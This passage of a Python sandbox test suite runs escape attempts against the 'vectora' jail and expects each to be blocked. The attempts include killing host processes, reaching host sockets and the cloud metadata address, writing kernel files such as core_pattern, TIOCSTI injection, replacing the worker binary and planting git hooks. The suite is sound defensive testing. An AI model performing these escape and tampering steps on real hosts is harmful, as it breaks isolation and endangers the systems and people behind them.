    return expect_blocked(c.probe(c.ws, "kill", str(os.getpid()), str(c.sleeper.pid)))


@attempt("kill(-1, SIGKILL) in the jail leaves a same-uid host process alive")
def _(c):
    v = expect_blocked(c.probe(c.ws, "kill-all"))
    time.sleep(0.1)
    if c.sleeper.poll() is not None:
        raise Fail(f"ESCAPED: the host sleeper (uid {c.jail_uid}) was killed: {c.sleeper.returncode}")
    return v


# -- sockets and network

@attempt("host abstract unix socket unreachable (network = false)")
def _(c):
    return expect_blocked(c.probe(c.ws, "abstract", c.abstract))


@attempt("host abstract unix socket unreachable (network = true: Landlock scope)")
def _(c):
    return expect_blocked(c.probe(c.ws_net, "abstract", c.abstract))


@attempt("a daemon-like socket under XDG_RUNTIME_DIR is unreachable")
def _(c):
    return expect_blocked(c.probe(c.ws_net, "unix", c.daemon_sock))


@attempt("a unix socket in the host's /tmp is unreachable")
def _(c):
    return expect_blocked(c.probe(c.ws_net, "unix", c.tmp_sock))


def expect_unreachable(r):
    v = expect_blocked(r)
    if "ENETUNREACH" not in v:
        raise Fail(f"expected ENETUNREACH (no route out of the jail's namespace), got: {v}")
    return v


# The same attempts with the network off and with an allowlist (issue 14):
# either way the jail's namespace is empty but for its own loopback.
for label, attr in (("network = false", "ws"), ("allowlist", "ws_allow")):
    def _mk(label=label, attr=attr):
        @attempt(f"{label}: TCP to the host's 127.0.0.1 listener fails (the jail's loopback is its own)")
        def _(c):
            return expect_blocked(c.probe(getattr(c, attr), "tcp", "127.0.0.1", str(c.tcp_port)))

        @attempt(f"{label}: TCP to the host's own address: no route (ENETUNREACH)")
        def _(c):
            return expect_unreachable(c.probe(getattr(c, attr), "tcp", c.host_addr, str(c.tcp_any_port)))

        @attempt(f"{label}: UDP out fails (no route)")
        def _(c):
            return expect_unreachable(c.probe(getattr(c, attr), "udp", c.host_addr, "53"))

        @attempt(f"{label}: TCP over IPv6 to ::1 fails")
        def _(c):
            return expect_blocked(c.probe(getattr(c, attr), "tcp", "::1", str(c.tcp_port)))

        @attempt(f"{label}: only the loopback interface")
        def _(c):
            return expect_blocked(c.probe(getattr(c, attr), "ifaces"))

        @attempt(f"{label}: a server and a client on 127.0.0.1 inside the jail work")
        def _(c):
            return expect_escaped(c.probe(getattr(c, attr), "loopback", "127.0.0.1"))

        @attempt(f"{label}: a server and a client on ::1 inside the jail work")
        def _(c):
            return expect_escaped(c.probe(getattr(c, attr), "loopback", "::1"))
    _mk()


@attempt("allowlist: through the proxy, the host's 127.0.0.1 listener is refused (403)")
def _(c):
    v = expect_blocked(c.probe(c.ws_allow, "proxy-connect", "127.0.0.1", str(c.tcp_port)))
    if "403" not in v:
        raise Fail(f"expected the proxy's 403, got: {v}")
    return v


@attempt("allowlist: through the proxy, the cloud metadata address is refused (403)")
def _(c):
    v = expect_blocked(c.probe(c.ws_allow, "proxy-connect", "169.254.169.254", "80"))
    if "403" not in v:
        raise Fail(f"expected the proxy's 403, got: {v}")
    return v


@attempt("allowlist: through the proxy, another port of the listed address is refused (403)")
def _(c):
    v = expect_blocked(c.probe(c.ws_allow, "proxy-connect", c.host_addr, str(c.tcp_port)))
    if "403" not in v:
        raise Fail(f"expected the proxy's 403, got: {v}")
    return v


@attempt("control: through the proxy, the listed address and port are reached (the refusals above can fail)")
def _(c):
    return expect_escaped(c.probe(c.ws_allow, "proxy-connect", c.host_addr, str(c.tcp_any_port)))


@attempt("lockdown: not even the jail's own loopback (inet sockets refused)")
def _(c):
    v = expect_blocked(c.probe(c.ws_lock, "loopback", "127.0.0.1"))
    if "EPERM" not in v:
        raise Fail(f"expected EPERM from seccomp under lockdown, got: {v}")
    return v


@attempt("lockdown: TCP to the host's 127.0.0.1 listener fails")
def _(c):
    return expect_blocked(c.probe(c.ws_lock, "tcp", "127.0.0.1", str(c.tcp_port)))


@attempt("lockdown: only the loopback interface")
def _(c):
    return expect_blocked(c.probe(c.ws_lock, "ifaces"))


@attempt("control: network = true reaches the host listener (the tests above can fail)")
def _(c):
    return expect_escaped(c.probe(c.ws_net, "tcp", "127.0.0.1", str(c.tcp_port)))


@attempt("control: network = true reaches the host's own address (the no-route tests can fail)")
def _(c):
    return expect_escaped(c.probe(c.ws_net, "tcp", c.host_addr, str(c.tcp_any_port)))


# -- environment, devices, terminals

@attempt("the CLI's environment does not leak in (only the allowlist)")
def _(c):
    # A shell exports what it computes itself: PWD (the jail's cwd) and,
    # busybox's, SHLVL (a terminal runs one, a background command line runs
    # under sh -c).
    return expect_blocked(c.probe(c.ws, "env", c.m["envvar"], *ENV_ALLOWLIST,
                                  *(["PWD", "SHLVL"] if c.via in ("pty", "bg") else [])))


@attempt("the worker's own environment (/proc/1/environ) has none of the CLI's")
def _(c):
    return expect_blocked(c.probe(c.ws, "read", "/proc/1/environ", c.m["envvar"]))


@attempt("no_gpu = true: no GPU nodes, no /sys")
def _(c):
    return expect_blocked(c.probe(c.ws, "devices"))


@attempt("TIOCSTI refused on stdin, the tty and a pty")
def _(c):
    return expect_blocked(c.probe(c.ws, "tiocsti"))


# -- kernel interfaces and Landlock

for name, path in (("/proc/sysrq-trigger", "/proc/sysrq-trigger"),
                   ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/core_pattern"),
                   ("/proc/sys/kernel/hostname", "/proc/sys/kernel/hostname"),
                   ("/proc/sys/vm/drop_caches", "/proc/sys/vm/drop_caches")):
    def _mk(path=path):
        @attempt(f"exec: open {name} for writing")
        def _(c):
            return expect_blocked(c.probe(c.ws, "openw", path))
    _mk()

for name, args in (("create a file in /run/vectora (the worker's dir)", ("write", "/run/vectora/x")),
                   ("replace the worker binary", ("write", "/run/vectora/vectora-worker")),
                   ("create a directory at / (the jail's root)", ("mkdir", "/vectora-probe")),
                   ("create a node in /dev (writable tmpfs, Landlock denies)", ("mkdir", "/dev/vectora-probe")),
                   ("create a fifo in /dev (Landlock denies)", ("mkfifo", "/dev/vectora-fifo"))):
    def _mk(args=args):
        @attempt(f"exec: {name}")
        def _(c):
            return expect_blocked(c.probe(c.ws, *args))
    _mk()

for name, path in (("/tmp", "/tmp/vectora-probe"), ("$HOME", "/home/sandbox/vectora-probe"),
                   ("/dev/shm", "/dev/shm/vectora-probe"), ("the workspace", "WS/notes.txt")):
    def _mk(path=path):
        @attempt(f"control: writing {name} works")
        def _(c):
            return expect_escaped(c.probe(c.ws, "write", path.replace("WS", c.ws)))
    _mk()


# -- the seccomp denylist, one test per row (see run_syscalls)

SYSCALL_RUNS = [
    ("network off", "ws", ["always", "net-off"]),
    ("network on", "ws_net", ["always"]),
    ("allowlist", "ws_allow", ["always", "net-off"]),
    ("lockdown", "ws_lock", ["net-off", "lockdown"]),
]


# -- degraded layers (issue 3, "Done when")

NO_SECCOMP = {"VECTORA_LIBSECCOMP": "/nonexistent/libseccomp.so.2"}
NO_LANDLOCK = {"VECTORA_NO_LANDLOCK": "1"}


@attempt("degraded: no libseccomp: runs, warns, Seccomp: 0, NoNewPrivs still 1")
def _(c):
    r = c.probe(c.ws, "status", "Seccomp=0", "NoNewPrivs=1", "CapEff=0000000000000000", extra_env=NO_SECCOMP)
    err = r.stderr.decode(errors="replace")
    if "warning: running degraded: seccomp: " not in err:
        raise Fail(f"no degradation warning on stderr:\n{out_of(r)}")
    return expect_blocked(r)


@attempt("degraded: no libseccomp under lockdown: refused (125), nothing runs")
def _(c):
    marker = os.path.join(c.ws_lock, "ran")
    r = c.probe(c.ws_lock, "write", marker, extra_env=NO_SECCOMP)
    err = r.stderr.decode(errors="replace")
    if os.path.exists(marker):
        raise Fail("the command ran")
    if r.returncode != EXIT_REFUSED or "lockdown" not in err or "seccomp" not in err:
        raise Fail(f"expected exit 125 naming lockdown and seccomp, got {r.returncode}:\n{out_of(r)}")
    return err.strip()


@attempt("degraded: no Landlock: runs, warns, seccomp still on, Landlock really off")
def _(c):
    r = c.probe(c.ws, "status", "Seccomp=2", "NoNewPrivs=1", extra_env=NO_LANDLOCK)
    err = r.stderr.decode(errors="replace")
    if "warning: running degraded: landlock: " not in err:
        raise Fail(f"no degradation warning on stderr:\n{out_of(r)}")
    v = expect_blocked(r)
    # /dev is a tmpfs the jail's uid owns: only Landlock keeps it from
    # creating nodes there, so without it the same attempt works.
    r2 = c.probe(c.ws, "mkdir", "/dev/vectora-probe", extra_env=NO_LANDLOCK)
    expect_escaped(r2)
    return v + "; mkdir /dev/x works without Landlock"


@attempt("degraded: no Landlock under lockdown: refused (125), nothing runs")
def _(c):
    marker = os.path.join(c.ws_lock, "ran")
    r = c.probe(c.ws_lock, "write", marker, extra_env=NO_LANDLOCK)
    err = r.stderr.decode(errors="replace")
    if os.path.exists(marker):
        raise Fail("the command ran")
    if r.returncode != EXIT_REFUSED or "lockdown" not in err or "Landlock" not in err:
        raise Fail(f"expected exit 125 naming lockdown and Landlock, got {r.returncode}:\n{out_of(r)}")
    return err.strip()


# -- interactive terminals (a PTY session in the jail, through the daemon)

PTY_ATTEMPTS = []


def pty_attempt(name):
    def deco(fn):
        PTY_ATTEMPTS.append((name, fn))
        return fn
    return deco


@pty_attempt("pty: the terminal is one of the jail's own devpts, not the host's (which holds a terminal of the test)")
def _(c):
    host_master, host_slave = pty.openpty()
    try:
        host_tty = os.ttyname(host_slave)
        r = c.shell(c.ws, "echo TTY=$(tty) PTS=$(ls /dev/pts | tr '\\n' ,) DEV=$(stat -c %d /dev/pts); exit 3\n")
    finally:
        os.close(host_master)
        os.close(host_slave)
    out = r.stdout.decode(errors="replace")
    m = re.search(r"TTY=(/dev/pts/\d+) PTS=([0-9a-z,]+) DEV=(\d+)", out)
    if r.returncode != 3 or not m:
        raise Fail(f"the shell did not run as expected (exit {r.returncode}):\n{out_of(r)}")
    tty, pts, dev = m.group(1), sorted(x for x in m.group(2).split(",") if x), int(m.group(3))
    if dev == os.stat("/dev/pts").st_dev:
        raise Fail(f"ESCAPED: the jail's /dev/pts is the host's devpts (device {dev}), where {host_tty} lives")
    if [x for x in pts if x.isdigit()] != [tty.rsplit("/", 1)[1]]:
        raise Fail(f"ESCAPED: the jail's /dev/pts lists other terminals: {pts} (its own: {tty})")
    return f"BLOCKED: {tty} on a devpts of its own (device {dev}); /dev/pts holds {pts}; the host's {host_tty} is not there"


@pty_attempt("pty: TIOCSTI into the jail's own terminal (stdin is a terminal now) is refused")
def _(c):
    return expect_blocked(c.pty_probe(c.ws, "tiocsti"))


def vm_rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    raise Fail(f"no VmRSS for pid {pid}")


FLOOD_CLIENT = r"""
import json, socket, sys, time
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect(sys.argv[1])
s.sendall(json.dumps({"tool": "terminal_open", "workspace": sys.argv[2], "id": 1, "cols": 80, "rows": 24,
                      "argv": ["cat", "/dev/zero"]}).encode() + b"\n")
buf = b""
while b"\n" not in buf:
    buf += s.recv(1)
print(buf.decode().strip(), flush=True)
time.sleep(float(sys.argv[3]))
"""


@pty_attempt("pty: an output flood the client never reads stays bounded (daemon memory; other calls answer)")
def _(c):
    # A client of this identity (the daemon checks its peers) that opens a
    # terminal flooding output and never reads it.
    fl = subprocess.Popen(c.ident.prefix + [sys.executable, "-c", FLOOD_CLIENT, c.allow_sock, c.ws, "4"],
                          stdout=subprocess.PIPE, env=c.env())
    try:
        reply = json.loads(fl.stdout.readline() or b"{}")
        if not reply.get("ok"):
            raise Fail(f"terminal_open failed: {reply}")
        rss0 = vm_rss_kib(c.daemon.pid)
        time.sleep(3)
        rss1 = vm_rss_kib(c.daemon.pid)
        t0 = time.monotonic()
        st = c.cli(["status"], {"VECTORA_SANDBOX_SOCKET": c.allow_sock}, timeout=30)
        took = time.monotonic() - t0
    finally:
        fl.kill()
        fl.wait()
    if st.returncode != 0:
        raise Fail(f"the daemon stopped answering under the flood:\n{out_of(st)}")
    if rss1 - rss0 > 64 * 1024:
        raise Fail(f"ESCAPED: the daemon grew by {(rss1 - rss0) // 1024} MiB in 3 s of an unread terminal flood")
    return f"BLOCKED: daemon RSS {rss0} -> {rss1} KiB over 3 s of an unread flood; status answered in {took:.2f} s"


def uses_probe(fn):
    """Attempts that run the probe in the jail (rerun in a terminal)."""
    try:
        src = inspect.getsource(fn)
    except (OSError, TypeError):
        return False
    # Those that build a workspace of their own did so in the first pass.
    return "c.probe(" in src and "make_ws(" not in src


def run_via(c, prefix, via, own, what):
    """A long-lived section: its own attempts, then every probe attempt and
    the seccomp runs again with the probe run `via` the daemon (as a
    terminal's shell, or as a background process): nothing a one-shot
    command cannot reach may be reachable there."""
    na = BACKEND.not_applicable(via + ":")
    if na:
        T.not_applicable(f"{prefix}{via}: {what}", f"{BACKEND.name}: {na}")
        return
    try:
        c.start_daemon()
    except Exception:
        tap(False, f"{prefix}{via}: the daemon starts", traceback.format_exc())
        return
    for name, fn in own:
        run_one(prefix + name, fn, c)
    c.via = via
    try:
        for name, fn in ATTEMPTS:
            # Degradation is the CLI's embedded launch (its env): not the daemon's.
            if uses_probe(fn) and not name.startswith("degraded:"):
                run_one(f"{prefix}{via}: {name}", fn, c)
        run_syscalls(c, f"{prefix}{via}: ")
    finally:
        c.via = None


def run_pty(c, prefix):
    run_via(c, prefix, "pty", PTY_ATTEMPTS, "the terminal section")


def run_bg(c, prefix):
    run_via(c, prefix, "bg", [], "the background process section")


# ---------------------------------------------------------------- runner

# -- host-side changes during a live jail
#
# The host replaces a protected file while a command is already running in
# the jail: editors save by renaming a temp file over vectora.toml, git
# renames config.lock over .git/config; either detaches the jail's
# read-only bind mount on that path. The command waits, then tries to
# write the new file; the action must be ended first (worker_recycled).

def host_replace(path, text, uid, gid):
    tmp = path + ".host-tmp"
    with open(tmp, "wb") as f:
        f.write(text)
    if ROOT:
        os.chown(tmp, uid, gid)
    os.rename(tmp, path)


def live_write_after_host_change(rel, host_change):
    def run(c):
        target = os.path.join(c.ws, rel)
        # The command says when it runs and waits for the go, so the host's
        # change falls inside the action however slowly the jail starts (a
        # fixed sleep let it land before an ssh jail existed under load).
        tag = secrets.token_hex(4)
        started, go = os.path.join(c.ws, f"started-{tag}"), os.path.join(c.ws, f"go-{tag}")
        # Embedded (the default socket holds the section's bait listener).
        cmd = c.ident.prefix + [CLI, "--no-daemon", "exec", "-w", c.ws, "--", "sh", "-c",
                                f"touch started-{tag}; while [ ! -e go-{tag} ]; do sleep 0.02; done; "
                                f"printf '# planted by the jail\\n' >> {rel} && echo WROTE; exit 0"]
        p = subprocess.Popen(cmd, env=c.env(), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE)
        deadline = time.monotonic() + 120
        while not os.path.exists(started) and p.poll() is None and time.monotonic() < deadline:
            time.sleep(0.01)
        if not os.path.exists(started):
            p.kill()
            raise Fail(f"the command did not start: {p.communicate(timeout=30)!r}")
        host_change(c, target)
        time.sleep(0.5)  # the jail must be gone by then (inotify's event, or 10 ms polling)
        open(go, "w").close()
        out, err = p.communicate(timeout=120)
        for f in (started, go):
            if os.path.exists(f):
                os.unlink(f)
        text = read_host(target)
        if (isinstance(text, bytes) and b"planted by the jail" in text) or b"WROTE" in out:
            raise Fail(f"ESCAPED: {rel} written after the host replaced it (exit {p.returncode}): {text!r}")
        # Blocked for the right reason: the action was ended, not refused
        # before it ran.
        if p.returncode != 125 or b"changed on the host" not in err:
            raise Fail(f"the action was not ended by the host's change (exit {p.returncode}): {err!r}")
        return f"BLOCKED: exit {p.returncode}: {err.decode(errors='replace').strip()}"
    return run


attempt("host: git renames a new .git/config in; a running command then appends to it")(
    live_write_after_host_change(".git/config", lambda c, t: host_replace(
        t, b"[core]\n\tbare = false\n[user]\n\tname = host\n", c.jail_uid, c.jail_gid)))
attempt("host: an editor saves vectora.toml by rename; a running command then appends to it")(
    live_write_after_host_change("vectora.toml", lambda c, t: host_replace(
        t, read_host(t), c.jail_uid, c.jail_gid)))


def _hooks_replaced(c, target):
    hooks = os.path.dirname(target)
    shutil.rmtree(hooks)
    os.mkdir(hooks)
    if ROOT:
        os.chown(hooks, c.jail_uid, c.jail_gid)


attempt("host: .git/hooks replaced whole; a running command then plants a hook")(
    live_write_after_host_change(".git/hooks/post-checkout", _hooks_replaced))


def run_one(name, fn, c):
    na = BACKEND.not_applicable(name)
    if na:
        T.not_applicable(name, f"{BACKEND.name}: {na}")
        return
    try:
        detail = fn(c)
        tap(True, name, detail)
    except Skip as e:
        tap(False, name, skip=str(e))
    except Fail as e:
        tap(False, name, str(e))
    except Exception:
        tap(False, name, traceback.format_exc())


def run_syscalls(c, prefix):
    for label, ws_attr, groups in SYSCALL_RUNS:
        na = BACKEND.not_applicable(f"{label}: seccomp")
        if na:
            T.not_applicable(f"{prefix}seccomp ({label})", f"{BACKEND.name}: {na}")
            continue
        ws = getattr(c, ws_attr)
        try:
            r = c.probe(ws, "syscalls", *groups)
        except Exception:
            tap(False, f"{prefix}seccomp ({label}): probe run", traceback.format_exc())
            continue
        lines = probe_lines(r)
        if not lines or r.returncode not in (0, 1):
            tap(False, f"{prefix}seccomp ({label}): probe run", f"exit {r.returncode}:\n{out_of(r)}")
            continue
        for ln in lines:
            status, rest = ln.split(": ", 1)
            sc = rest.split(":", 1)[0]
            tap(status == "BLOCKED", f"{prefix}seccomp ({label}): {sc} denied", ln)


def main():
    why = preflight() or BACKEND.start()
    idents = identities()
    if why:
        for ident in idents:
            for name, _fn in ATTEMPTS:
                tap(False, f"[{ident.name}] {name}", skip=why)
    else:
        if not ROOT:
            T.root_only("[root] the whole list as root", "not running as root")
        for ident in idents:
            na = BACKEND.identity_not_applicable(ident.uid)
            if na:
                T.not_applicable(f"[{ident.name}] the whole list on {BACKEND.name}", na)
                continue
            c = Ctx(ident)
            prefix = f"[{ident.name}] "
            try:
                c.tcp_port = c.listen_tcp()
                # The host's own non-loopback address, with a listener on it:
                # the jail without network must get no route to it.
                c.host_addr = host_address()
                c.tcp_any_port = c.listen_tcp(addr=c.host_addr)
                try:
                    c.listen_tcp(socket.AF_INET6, "::1")
                except OSError:
                    pass
                c.abstract = f"vectora-escape-{secrets.token_hex(4)}"
                c.listen_unix(abstract=c.abstract)
                c.daemon_sock = os.path.join(c.xdg, "vectora-sandbox.sock")
                c.listen_unix(path=c.daemon_sock)
                c.tmp_sock = os.path.join(tempfile.gettempdir(), f"vectora-escape-{secrets.token_hex(4)}.sock")
                c.listen_unix(path=c.tmp_sock)
                c.start_sleeper()
                if not BACKEND.not_applicable("allowlist:"):
                    c.start_allowlist()
                # A smoke run first: if the jail cannot start at all, every
                # attempt would "pass" for the wrong reason.
                r = c.cli(["exec", "-w", c.ws, "--", c.probe_path(c.ws), "status", "NoNewPrivs=1"])
                if r.returncode != 0:
                    tap(False, f"{prefix}the jail starts", f"exit {r.returncode}:\n{out_of(r)}")
                    continue
                tap(True, f"{prefix}the jail starts")
                for name, fn in ATTEMPTS:
                    run_one(prefix + name, fn, c)
                run_syscalls(c, prefix)
                run_pty(c, prefix)
                run_bg(c, prefix)
            finally:
                try:
                    os.unlink(c.tmp_sock)
                except (OSError, AttributeError):
                    pass
                c.cleanup()
    BACKEND.stop()
    sys.exit(T.finish())


if __name__ == "__main__":
    main()
